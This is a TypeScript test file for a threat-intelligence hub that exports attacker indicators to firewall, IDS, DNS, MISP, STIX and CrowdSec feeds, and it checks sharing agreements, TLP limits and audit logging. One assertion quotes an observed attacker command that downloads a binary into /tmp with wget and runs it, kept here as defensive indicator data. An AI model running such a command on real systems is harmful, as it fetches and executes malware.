import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { person } from '@skep/hub/testing-people'
import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { Ajv } from 'ajv'
import { headOf } from './feeds/form.ts'
import { forms } from './feeds/forms/index.ts'
import { rpzAddress } from './feeds/forms/names.ts'
import { goDuration } from './crowdsec/routes.ts'
import { Warninglists } from './model/lists.ts'
import { confidenceOf } from './model/confidence.ts'
import { sumOf, give } from './agreements/terms.ts'
import { defaults } from './agreements/agreements.ts'
import { kinds, type Indicator } from './model/indicator.ts'
import { canary, known, sharingHub } from './testing.ts'

interface MispEvent {
  readonly timestamp: string
  readonly Attribute: readonly { value: string; first_seen: string; last_seen: string }[]
  readonly Object: readonly { Attribute: readonly { value: string }[] }[]
}
/** PyMISP's own schema of an event; it is older than objects and times of attributes, which PyMISP itself judges (interop.test.ts). */
const judgeMisp = ((): ReturnType<Ajv['compile']> => {
  const {
    $schema: _,
    id: __,
    ...schema
  } = JSON.parse(readFileSync(new URL('../testdata/misp/schema.json', import.meta.url), 'utf8')) as Record<
    string,
    unknown
  >
  return new Ajv({ strict: false }).compile(schema)
})()

let house: Awaited<ReturnType<typeof sharingHub>>
let operator: string
let partner: string
const media = 'application/taxii+json;version=2.1'

const get = (path: string, token: string | undefined, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(`${house.hub.url}${path}`, {
    headers: { ...(token !== undefined && { authorization: `Bearer ${token}` }), ...headers },
  })
const api = async (method: string, path: string, body?: object, token = operator) => {
  const response = await fetch(`${house.hub.url}/api/v1/${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  })
  return { status: response.status, body: (await response.json()) as ReturnType<typeof JSON.parse> }
}
const feed = async (path: string, token: string | undefined = operator): Promise<string> =>
  (await get(`/feeds/${path}`, token)).text()
const entries = async (path: string, token?: string): Promise<string[]> =>
  (await feed(path, token)).split('\n').filter((line) => line !== '' && !/^[#!;]/.test(line))

/** Everything that a token gets, in every form, as one text. */
async function all(token: string): Promise<string> {
  const parts: string[] = []
  for (const { path } of forms) parts.push(`== ${path}`, await feed(path, token))
  parts.push(await (await get('/v1/decisions/stream?startup=true', undefined, { 'x-api-key': token })).text())
  for (const kind of kinds)
    parts.push(await (await get(`/shared/collections/${kind}/objects/`, token, { accept: media })).text())
  const manifest = await (await get('/misp/manifest.json', token)).text()
  parts.push(manifest, await (await get('/misp/hashes.csv', token)).text())
  for (const uuid of Object.keys(JSON.parse(manifest) as object))
    parts.push(await (await get(`/misp/${uuid}.json`, token)).text())
  parts.push(JSON.stringify((await api('GET', 'sharing/catalogue', undefined, token)).body))
  return parts.join('\n')
}

beforeAll(async () => {
  house = await sharingHub()
  operator = await house.hub.relational.tokens.create('operator', 'test')
  await person(house.hub, 'x@partner.example', 'partner', 'admin')
  partner = await house.hub.relational.tokens.create('viewer', 'partner', { organisation: 'partner' })
  await house.publish()
  await house.publish(Date.now() + 86_400_000)
}, 60_000)
afterAll(() => house.stop())

describe('one model, many forms', () => {
  test('all forms say the same', async () => {
    const neutral = (await entries('json/indicators.ndjson')).map((line) => JSON.parse(line) as Indicator)
    const of = (kind: string) => neutral.filter((one) => one.kind === kind)
    const values = (kind: string) => of(kind).map(({ value }) => value)
    const sure = of('address')
      .filter(({ confidence }) => confidence >= defaults.block_confidence)
      .map(({ value }) => value)
    expect(sure).toEqual([known.attacker, known.six])
    expect(values('url')).toContain(known.url)
    expect(values('domain')).toEqual([known.host])
    expect(values('file')).toEqual([known.sha256])
    expect(values('key')).toEqual([known.key])
    expect(values('hassh')).toEqual([known.hassh])
    expect(values('command')).toContain('cd /tmp; wget http://<address>/bins/mips; chmod 777 mips; ./mips')

    expect(await entries('plain/addresses.txt')).toEqual(sure)
    expect((await entries('bruteforce/latest-sshbruteforce-unique.csv')).map((line) => line.split(',')[0])).toEqual(
      sure,
    )
    expect((await entries('url/latest-url-unique.csv')).map((line) => line.replace('hxxp', 'http'))).toEqual(
      values('url'),
    )
    const addressesIn = async (path: string, pattern: RegExp) =>
      [...(await feed(path)).matchAll(pattern)].map((match) => match[1]).sort()
    const sorted = [...sure].sort()
    expect(await addressesIn('nftables/skep.nft', /add element inet skep attackers\d \{ (\S+) timeout/g)).toEqual(
      sorted,
    )
    expect(await addressesIn('ipset/skep.ipset', /^add skep\d (\S+) timeout/gm)).toEqual(sorted)
    expect(await addressesIn('mikrotik/skep.rsc', /list=skep address=(\S+)/g)).toEqual(sorted)
    expect(await addressesIn('exabgp/skep.routes', /route (\S+)\/\d+ next-hop/g)).toEqual(sorted)
    expect(await addressesIn('exabgp/skep.conf', /route (\S+)\/\d+ next-hop/g)).toEqual(sorted)
    expect(await addressesIn('cisco/skep-acl.txt', /^ host (\S+)/gm)).toEqual([known.attacker])
    expect(await entries('suricata/datasets/addresses.lst')).toEqual(sure)
    expect((await entries('suricata/iprep/reputation.list')).map((line) => line.split(',')[0])).toEqual(
      values('address'),
    )
    expect(await entries('suricata/datasets/domains.lst')).toEqual([Buffer.from(known.host).toString('base64')])
    expect(await entries('suricata/datasets/sha256.lst')).toEqual([known.sha256])
    const zeek = (await entries('zeek/skep.intel')).map((line) => line.split('\t'))
    expect(zeek.filter(([, type]) => type === 'Intel::ADDR').map(([value]) => value)).toEqual(values('address'))
    expect(zeek.filter(([, type]) => type === 'Intel::URL').map(([value]) => value)).toEqual(
      values('url').map((url) => url.replace(/^\w+:\/\//, '')),
    )
    const rpz = await feed('rpz/skep.rpz')
    expect(rpz).toContain(`\n${known.host} CNAME .\n*.${known.host} CNAME .\n`)
    expect(rpz).toContain('\n32.5.5.5.5.rpz-ip CNAME .\n')
    expect(rpz).not.toContain('githubusercontent')
    const intelmq = (await entries('intelmq/events.ndjson')).map((line) => JSON.parse(line) as Record<string, string>)
    expect(intelmq.filter((event) => event['feed.name'] === 'address').map((event) => event['source.ip'])).toEqual(
      values('address'),
    )
    const crowdsec = (await (
      await get('/v1/decisions/stream?startup=true', undefined, { 'x-api-key': operator })
    ).json()) as { new: { value: string; duration: string }[] }
    expect(crowdsec.new.map(({ value }) => value)).toEqual(sure)

    // MISP: what was seen on the day, which here is all; each value's MD5 stands in the list of hashes.
    const manifest = (await (await get('/misp/manifest.json', operator)).json()) as Record<
      string,
      { info: string; timestamp: string }
    >
    const hashes = await (await get('/misp/hashes.csv', operator)).text()
    const told: string[] = []
    for (const uuid of Object.keys(manifest)) {
      const { Event: event } = (await (await get(`/misp/${uuid}.json`, operator)).json()) as { Event: MispEvent }
      const { Object: _, ...plain } = {
        ...event,
        Attribute: event.Attribute.map(({ first_seen: __, last_seen: ___, ...one }) => one),
      }
      expect(judgeMisp({ Event: plain }), JSON.stringify(judgeMisp.errors)).toBe(true)
      expect(event.timestamp).toBe(manifest[uuid]?.timestamp)
      const all = [...event.Attribute, ...event.Object.flatMap((one) => one.Attribute)]
      told.push(...all.map(({ value }) => value))
      for (const { value } of all)
        expect(hashes).toContain(`${createHash('md5').update(value).digest('hex')},${uuid}\n`)
    }
    for (const kind of ['address', 'url', 'domain', 'file', 'hassh', 'command'])
      for (const value of values(kind)) expect(told, kind).toContain(value)
    expect(told).toContain("12'34\\5")
    expect(of('campaign')).not.toEqual([])
    for (const { detail, marks } of of('campaign'))
      for (const value of [detail, ...(marks ?? []).map((mark) => mark.value.replace('SHA256:', ''))])
        expect(told, 'campaign').toContain(value)

    // STIX, as TAXII gives it: the same values, times and confidence.
    for (const kind of kinds.filter((one) => one !== 'campaign')) {
      const { objects = [] } = (await (
        await get(`/shared/collections/${kind}/objects/?match[type]=indicator`, operator, { accept: media })
      ).json()) as { objects?: Record<string, unknown>[] }
      const told = objects.map(({ confidence, valid_until }) => `${confidence} ${valid_until}`).sort()
      expect(told, kind).toEqual(
        of(kind)
          .map(({ confidence, valid_until }) => `${confidence} ${new Date(valid_until).toISOString()}`)
          .sort(),
      )
    }
    const { objects: campaigns = [] } = (await (
      await get('/shared/collections/campaign/objects/?match[type]=campaign', operator, { accept: media })
    ).json()) as { objects?: Record<string, unknown>[] }
    expect(campaigns.map(({ name, confidence }) => `${name} ${confidence}`).sort()).toEqual(
      of('campaign')
        .map(({ detail, confidence }) => `${detail} ${confidence}`)
        .sort(),
    )
    for (const kind of kinds) {
      const { objects = [] } = (await (
        await get(`/shared/collections/${kind}/objects/?match[type]=sighting`, operator, { accept: media })
      ).json()) as { objects?: { count: number }[] }
      const told = objects.map(({ count }) => count).sort((a, b) => a - b)
      expect(told, kind).toEqual(
        of(kind)
          .map(({ counts }) => counts?.events ?? 0)
          .sort((a, b) => a - b),
      )
    }
  })

  test('known scanners, members, what may be forged, and a person’s own line are in none', async () => {
    const text = await all(operator)
    expect(text).toContain(known.attacker)
    for (const never of [known.scanner, known.member, known.forged, known.private, '10.0.0.1'])
      expect(text, never).not.toContain(never)
    // What is left out is counted, with the reason.
    const { body } = await api('GET', 'sharing')
    expect(body.contents.left.address).toMatchObject({ 'a member’s own network, which is told itself': 1 })
    expect(Object.keys(body.contents.left.address).join()).toMatch(/Censys/i)
    expect(JSON.stringify(body.contents.left.url)).toContain('it names a sensor')
    expect(body.warninglists.length).toBe(readdirSync(new URL('../warninglists/', import.meta.url)).length - 1)
  })

  test('no form tells where a sensor stands or whose it is, to whomever', async () => {
    await api('PUT', 'sharing/communities/all', {
      title: 'All',
      tlp: 'red',
      kinds: [...kinds],
      numbers: true,
      delay_minutes: 0,
      everyone: false,
    })
    await api('PUT', 'sharing/communities/all/members/partner')
    for (const token of [operator, partner]) {
      const text = await all(token)
      expect(text).toContain(known.attacker)
      for (const trace of [
        canary.sensor,
        canary.other,
        canary.organisation,
        canary.address,
        '2001:4860:0:ca',
        'elsewhere',
        '32.77.113.0.203',
      ])
        expect(text, trace).not.toContain(trace)
      expect(text).not.toContain(Buffer.from(canary.address).toString('base64').slice(0, 14))
    }
    await api('DELETE', 'sharing/communities/all')
  })
})

describe('agreements', () => {
  const friends = {
    title: 'Friends',
    tlp: 'green',
    kinds: ['address', 'credential', 'command'],
    numbers: false,
    delay_minutes: 0,
    everyone: false,
  }

  test('without one there is nothing; with one, what it says and no more', async () => {
    expect((await get('/feeds/plain/addresses.txt', partner)).status).toBe(404)
    expect((await get('/feeds/plain/addresses.txt', undefined)).status).toBe(401)
    expect((await api('GET', 'sharing/catalogue', undefined, partner)).body).toMatchObject({ terms: [], feeds: [] })
    expect((await api('PUT', 'sharing/communities/friends', friends)).status).toBe(200)
    expect((await api('PUT', 'sharing/communities/friends/members/nobody')).status).toBe(404)
    expect((await api('PUT', 'sharing/communities/friends/members/partner')).status).toBe(200)
    expect(await entries('plain/addresses.txt', partner)).toContain(known.attacker)
    expect((await get('/feeds/csv/credential.csv', partner)).status).toBe(404)
    expect((await get('/feeds/plain/urls.txt', partner)).status).toBe(404)
    const lines = (await entries('json/indicators.ndjson', partner)).map((line) => JSON.parse(line) as Indicator)
    expect(new Set(lines.map(({ kind }) => kind))).toEqual(new Set(['address', 'command']))
    for (const { counts, reasons } of lines) {
      expect(counts).toBeUndefined()
      expect(reasons.join()).not.toMatch(/\d/)
    }
    expect((await get('/feeds/json/indicators.ndjson', partner)).headers.get('x-feed-marking')).toBe('TLP:GREEN')

    const { body } = await api('GET', 'sharing/preview?organisation_name=partner')
    expect(body.tlp).toBe('green')
    expect(body.kinds.map(({ kind, count }: { kind: string; count: number }) => [kind, count])).toEqual([
      ['address', lines.filter(({ kind }) => kind === 'address').length],
      ['command', lines.filter(({ kind }) => kind === 'command').length],
    ])
    for (const path of ['sharing', 'sharing/preview', 'sharing/inbox'])
      expect((await api('GET', path, undefined, partner)).status, path).toBe(403)

    expect((await api('DELETE', 'sharing/communities/friends/members/partner')).status).toBe(200)
    expect((await get('/feeds/plain/addresses.txt', partner)).status).toBe(404)
    expect((await api('DELETE', 'sharing/communities/friends/members/partner')).status).toBe(404)
  })

  test('every delivery is in the audit log', async () => {
    await api('PUT', 'sharing/communities/friends/members/partner')
    const answer = await get('/feeds/plain/addresses.txt', partner)
    const sum = answer.headers.get('x-feed-sha256') ?? 'none'
    expect(await (await get('/feeds/plain/addresses.txt.sha256', partner)).text()).toBe(`${sum}  addresses.txt\n`)
    const { body } = await api('GET', 'audit?limit=500')
    expect(JSON.stringify(body)).toContain(sum)
    expect(JSON.stringify(body)).toContain('agreement revoked')
    // What has not changed is not sent again.
    const again = await get('/feeds/plain/addresses.txt', partner, {
      'if-none-match': answer.headers.get('etag') ?? '',
    })
    expect(again.status).toBe(304)
    const zipped = await get('/feeds/plain/addresses.txt', partner, { 'accept-encoding': 'gzip' })
    expect(await zipped.text()).toBe(await answer.text())
  })

  test('an agreement for everyone needs no sign-in', async () => {
    await api('PUT', 'sharing/communities/world', { ...friends, tlp: 'clear', kinds: ['address'], everyone: true })
    const answer = await get('/bruteforce/latest-sshbruteforce-unique.csv', undefined)
    expect(answer.status).toBe(200)
    expect(answer.headers.get('link')).toContain('rel="license"')
    expect(await answer.text()).toContain(known.attacker)
    expect((await get('/taxii2/', undefined, { accept: media })).status).toBe(200)
    // A wrong token is no anybody.
    expect((await get('/feeds/plain/addresses.txt', 'skep_viewer_wrong')).status).toBe(401)
    await api('DELETE', 'sharing/communities/world')
    expect((await get('/bruteforce/latest-sshbruteforce-unique.csv', undefined)).status).toBe(401)
  })

  test('terms add up: each kind by the agreement that gives most of it, none above its ceiling', () => {
    const community = (
      kind: (typeof kinds)[number],
      tlp: 'clear' | 'amber',
      numbers: boolean,
      delay_minutes: number,
    ) => ({
      name: '',
      title: '',
      everyone: false,
      kinds: [kind],
      tlp,
      numbers,
      delay_minutes,
    })
    const terms = sumOf(
      [
        community('address', 'clear', false, 60),
        community('address', 'clear', true, 120),
        community('credential', 'clear', true, 0),
        community('command', 'amber', false, 0),
      ],
      defaults.tlp,
      'x',
    )
    expect([...terms.kinds]).toEqual([
      ['address', { numbers: true, delay: 3_600_000 }],
      ['command', { numbers: false, delay: 0 }],
    ])
    const one = {
      kind: 'address',
      tlp: 'clear',
      first_seen: '2026-01-01T00:00:00Z',
      reasons: [],
    } as unknown as Indicator
    expect(give(one, terms, Date.parse('2026-01-01T00:59:00Z'))).toBeUndefined()
    expect(give(one, terms, Date.parse('2026-01-01T01:00:00Z'))).toBeDefined()
  })
})

test('who asks without end, and without a token, is slowed down', async () => {
  let status = 0
  for (let i = 0; i < 400 && status !== 429; i++) ({ status } = await get('/feeds/plain/addresses.txt', undefined))
  expect(status).toBe(429)
  expect((await get('/feeds/plain/addresses.txt', operator)).status).toBe(200)
})

describe('a bouncer of CrowdSec', () => {
  const stream = async (startup: boolean, more = '', key = operator) => {
    const response = await get(`/v1/decisions/stream?startup=${startup}${more}`, undefined, { 'x-api-key': key })
    return {
      status: response.status,
      body: (await response.json()) as { new: { value: string }[] | null; deleted: { value: string }[] | null },
    }
  }
  test('is told all at its start, then only what changes', async () => {
    expect((await stream(true, '', 'wrong')).status).toBe(403)
    expect((await stream(true)).body.new).toHaveLength(2)
    expect((await stream(false)).body).toEqual({ new: null, deleted: null })
    expect((await stream(true, '&scopes=country')).body.new).toBeNull()
    expect((await stream(true, '&scenarios_containing=nothing')).body.new).toBeNull()
    const settings = (await api('GET', 'sharing')).body.settings
    await api('PUT', 'sharing/settings', { ...settings, block_confidence: 100 })
    expect((await stream(false)).body.deleted).toHaveLength(2)
    await api('PUT', 'sharing/settings', settings)
    expect((await stream(false)).body.new).toHaveLength(2)
    const one = await get(`/v1/decisions?ip=${known.attacker}`, undefined, { 'x-api-key': operator })
    expect(await one.json()).toMatchObject([{ value: known.attacker, type: 'ban', scope: 'Ip' }])
    expect(await (await get('/v1/decisions?ip=9.9.9.9', undefined, { 'x-api-key': operator })).json()).toBeNull()
  })
  test('reads times as Go writes them', () => {
    expect(goDuration(345_598_000)).toBe('95h59m58s')
    expect(goDuration(-5)).toBe('0h0m1s')
  })
})

test('lists of what is no attack: every type but patterns, damaged ones refused', () => {
  const lists = new Warninglists()
  lists.add({ name: 'nets', type: 'cidr', list: ['192.0.2.0/24', '2001:DB8::/32', 'junk', '1.2.3.4/99'] })
  lists.add({ name: 'hosts', type: 'hostname', list: ['.example.com', 'github.com'] })
  lists.add({ name: 'hashes', type: 'string', list: ['ABC'] })
  lists.add({ name: 'parts', type: 'substring', list: ['sandbox', 'x'] })
  expect(() => lists.add({ name: 'evil', type: 'regex', list: ['(a+)+$'] })).toThrow(RangeError)
  expect(lists.address('192.0.2.9')).toBe('nets')
  expect(lists.address('2001:db8::9')).toBe('nets')
  expect(lists.address('1.2.3.4')).toBeUndefined()
  expect(lists.host('a.b.example.com')).toBe('hosts')
  expect(lists.host('raw.github.com')).toBe('hosts')
  expect(lists.host('notgithub.com')).toBeUndefined()
  expect(lists.host('my.sandbox.net')).toBe('parts')
  expect(lists.value('abc')).toBe('hashes')
})

test('what an operator wrote into the head of a file stays in its line', () => {
  const head = {
    title: 't',
    made: '',
    expires: '',
    licence: 'x\n1.2.3.4',
    licence_url: '',
    contact: 'a\r\nb',
    tlp: 'clear',
    count: 0,
  }
  for (const line of headOf('#', head as never)
    .trim()
    .split('\n'))
    expect(line).toMatch(/^# /)
})

test('an address stands backwards in a policy zone', () => {
  expect(rpzAddress('192.0.2.3')).toBe('32.3.2.0.192.rpz-ip')
  expect(rpzAddress('2001:db8::1')).toBe('128.1.zz.db8.2001.rpz-ip')
  expect(rpzAddress('::1')).toBe('128.1.zz.rpz-ip')
})

test('more witnesses, more confidence, and never more than all', () => {
  const least = confidenceOf(
    { sources: 1, sensors: 1, organisations: 1, days: 1 },
    { handshake: false, severity: 'low' },
  )
  const most = confidenceOf(
    { sources: 9, sensors: 900, organisations: 90, days: 90 },
    { handshake: true, severity: 'critical' },
  )
  expect(least).toEqual({ confidence: 20, reasons: [] })
  expect(most.confidence).toBe(100)
  expect(most.reasons).toHaveLength(5)
})
